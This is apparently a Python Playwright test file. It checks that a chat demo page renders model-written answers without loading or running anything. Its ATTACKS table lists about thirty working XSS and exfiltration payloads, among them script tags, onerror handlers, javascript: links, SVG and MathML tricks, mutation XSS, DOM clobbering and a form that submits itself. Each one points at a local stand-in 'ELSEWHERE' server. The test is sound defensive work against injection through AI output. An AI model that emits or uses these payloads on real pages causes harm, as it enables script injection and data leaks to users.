"""Answers that a model wrote to reach out, or to run as the page: nothing of them leaves the page, in any tab."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from backends.settings import Settings
from demo.desk import open_desk
from demo.serve import bind, create_server
from mock_server import MockServer
from tests.browser.conftest import Person, Site

ATTACKS = {
    "image": "![x](ELSEWHERE/a.png)",
    "image in a link": "[![x](ELSEWHERE/a.png)](ELSEWHERE/b)",
    "reference image": "![x][y]\n\n[y]: ELSEWHERE/a.png",
    "img": '<img src="ELSEWHERE/a.png" srcset="ELSEWHERE/b.png 2x">',
    "picture": '<picture><source srcset="ELSEWHERE/a.png"><img></picture>',
    "video": '<video poster="ELSEWHERE/a.png" src="ELSEWHERE/b.mp4" autoplay></video>',
    "audio": '<audio src="ELSEWHERE/a.wav" autoplay class="media"></audio>',
    "style": '<p style="background: url(ELSEWHERE/a.png); list-style: url(ELSEWHERE/b.png)">x</p>',
    "style sheet": "<style>@import url(ELSEWHERE/a.css); * { background: url(ELSEWHERE/b.png) }</style>",
    "link": '<link rel="stylesheet" href="ELSEWHERE/a.css"><link rel="prefetch" href="ELSEWHERE/b">',
    "iframe": '<iframe src="ELSEWHERE/a"></iframe><iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    "object": '<object data="ELSEWHERE/a"></object><embed src="ELSEWHERE/b">',
    "base": '<base href="ELSEWHERE/">',
    "refresh": '<meta http-equiv="refresh" content="0; url=ELSEWHERE/a">',
    "form": '<form action="ELSEWHERE/a" id="f"><input name="q" autofocus onfocus="f.submit()"></form>',
    "script": "<script>pwned = 1</script><script src='ELSEWHERE/a.js'></script>",
    "event": '<img src="x" onerror="pwned = 1"><details open ontoggle="pwned = 1">x</details><body onload="pwned = 1">',
    "svg": '<svg onload="pwned = 1"><image href="ELSEWHERE/a.png"/><use href="ELSEWHERE/b.svg#c"/><script>pwned = 1</script></svg>',
    "svg link": '<svg><a xlink:href="javascript:pwned = 1"><text y="20">click</text></a></svg>',
    "animated link": '<svg><a><animate attributeName="href" values="javascript:pwned = 1"/><text y="20">click</text></a></svg>',
    "MathML": '<math href="javascript:pwned = 1"><mi>click</mi></math><math><maction xlink:href="javascript:pwned = 1">click</maction></math>',
    "javascript link": "[click](javascript:pwned=1) [click](JaVaScRiPt&colon;pwned=1) <a href='java\tscript:pwned=1'>click</a> <javascript:pwned=1>",
    "data link": "[click](data:text/html,<script>opener.pwned=1</script>) <a href='data:text/html,x' download>click</a>",
    "KaTeX": r"$$\href{javascript:pwned=1}{click} \url{javascript:pwned=1} \includegraphics{ELSEWHERE/a.png} \htmlData{x=y}{z}$$",
    "Mermaid": '```mermaid\ngraph LR\n  a[<img src=ELSEWHERE/a.png onerror=pwned=1>] --> b\n  click b href "javascript:pwned=1"\n```',
    "code": "```html\n<img src='ELSEWHERE/a.png' onerror='pwned = 1'>\n```",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=ELSEWHERE/a.png onerror=pwned=1&gt;">',
    "unfinished": '<img src="ELSEWHERE/a.png" onerror="pwned = 1" <p title="',
    "thought": "<think><img src='ELSEWHERE/a.png' onerror='pwned = 1'></think>",
    "clobbering": '<a id="gradio_config" name="root" href="ELSEWHERE/">x</a><img name="body"><form id="document"></form>',
    "ping": '<a href="#" ping="ELSEWHERE/a" onclick="pwned = 1">click</a>',
}
"""What a model may write; ELSEWHERE is a server that is not the page's."""

ACTIVE = "iframe, object, embed, base, meta, link, script, style:not([id^=mermaid] *)"
"""What loads, runs or dresses the page; a Mermaid drawing brings the style of its own."""
MARKUP = "elements => elements.map(element => element.outerHTML)"
LINKS = """links => links.map(link => [link.getAttribute("href") ?? link.getAttribute("xlink:href") ?? "", link.target, link.rel])"""


class Elsewhere:
    """Another server, and what it was asked for."""

    def __init__(self) -> None:
        self.asked = asked = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(f"{self.path} from {self.headers.get('referer')}")
                self.send_response(204)
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@contextmanager
def running(elsewhere: Elsewhere) -> Iterator[None]:
    thread = threading.Thread(target=elsewhere.server.serve_forever)
    thread.start()
    yield
    elsewhere.server.shutdown()
    thread.join()
    elsewhere.server.server_close()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    elsewhere = Elsewhere()
    with running(elsewhere):
        yield elsewhere


def attack(text: str, elsewhere: Elsewhere) -> str:
    return text.replace("ELSEWHERE", elsewhere.url)


@pytest.fixture(scope="module")
def site(elsewhere: Elsewhere, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A page whose endpoint answers each attack's name with the attack, and all else with all attacks."""
    folder = tmp_path_factory.mktemp("attacks")
    (folder / "scripts").mkdir()
    everything = "\n\n".join(attack(text, elsewhere) for text in ATTACKS.values())
    for number, (prompts, text) in enumerate([(["all"], everything), *(([name], attack(text, elsewhere)) for name, text in ATTACKS.items())]):
        (folder / "scripts" / f"{number}.json").write_text(json.dumps({"prompts": prompts, "text": text}), encoding="utf-8")
    (folder / "catalog.toml").write_text('[model]\ncontainer = "tgi-2.4"\nscripts = "scripts"\n', encoding="utf-8")
    with MockServer(catalog=folder / "catalog.toml") as twin:
        settings = Settings(backend="container", container_url=f"{twin.url}/containers/model")
        with bind(settings.host, 0) as listener, open_desk(settings) as desk:
            server = create_server(desk, settings)
            thread = threading.Thread(target=server.run, args=([listener],), name="page")
            thread.start()
            yield Site(f"http://127.0.0.1:{listener.getsockname()[1]}/", twin.url)
            server.should_exit = True
            thread.join()


@pytest.fixture
def victim(browser: Browser, site: Site, elsewhere: Elsewhere) -> Iterator[Person]:
    """Somebody who reads what the model writes; behind the test, nothing has got out and nothing has run."""
    elsewhere.asked.clear()
    with browser.new_context(viewport={"width": 1280, "height": 900}) as context:
        person = Person(context.new_page(), site).visit()
        dialogs: list[str] = []
        person.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        person.page.get_by_role("button", name="Parameters").click()
        person.page.locator("#max_new_tokens input").fill("900")
        yield person
        assert person.page.url == site.url
        assert person.page.evaluate("window.pwned ?? null") is None
        assert person.page.evaluate("document.baseURI") == site.url
        assert (elsewhere.asked, dialogs) == ([], [])
        assert [url for url in person.strayed if not url.startswith("http://127.0.0.1")] == []


def check_links(person: Person, area: str) -> None:
    """See that what can be clicked opens another page, that hears nothing of this one, or nothing."""
    for href, target, rel in person.page.locator(f"{area} a").evaluate_all(LINKS):
        scheme = href.strip().partition(":")[0].lower() if ":" in href else ""
        assert scheme in ("", "http", "https", "mailto", "blob"), href
        if scheme in ("http", "https"):
            assert target == "_blank", href
            assert "noopener" in rel, href


def test_no_answer_in_the_chat_loads_or_runs_anything(victim: Person) -> None:
    for name in ATTACKS:
        victim.ask(name)
        victim.await_end()
        expect(victim.row(0)).to_have_text(name)
    check_links(victim, "#chat")
    assert victim.page.locator("#chat .prose").locator(ACTIVE).evaluate_all(MARKUP) == []
    victim.page.locator("#chat form").first.evaluate("form => form.requestSubmit()")  # one may stand there; what it would send, the policy forbids


def test_neither_does_a_question(victim: Person, elsewhere: Elsewhere) -> None:
    victim.page.locator("#max_new_tokens input").fill("300")
    victim.ask("\n\n".join(attack(text, elsewhere) for text in ATTACKS.values()))
    victim.await_end()
    check_links(victim, "#chat")
    for tab, drawn in (("Wire", "#wire-parts tbody tr"), ("Tokens", "#tokens-map .tok")):
        victim.page.get_by_role("tab", name=tab).click()
        expect(victim.page.locator(drawn).first).to_be_visible()


def test_no_tab_does_with_all_of_them_at_once(victim: Person) -> None:
    victim.ask("all")
    victim.await_end()
    victim.page.get_by_label("Plain text").check()
    expect(victim.row(1)).to_contain_text("<iframe srcdoc=")
    victim.page.get_by_role("tab", name="Wire").click()
    expect(victim.page.locator("#wire-parts tbody tr").nth(100)).to_be_visible()
    check_links(victim, "#wire-tab")
    victim.page.get_by_role("tab", name="Tokens").click()
    expect(victim.page.locator("#tokens-map .tok").nth(50)).to_be_visible()
    victim.page.get_by_role("tab", name="Compare").click()
    victim.page.locator("#race-question textarea").fill("all")
    victim.page.locator("#race-send").click()
    for side in ("A", "B"):
        expect(victim.page.locator(f"#answer-{side}")).to_contain_text("finished")
    check_links(victim, ".answer")
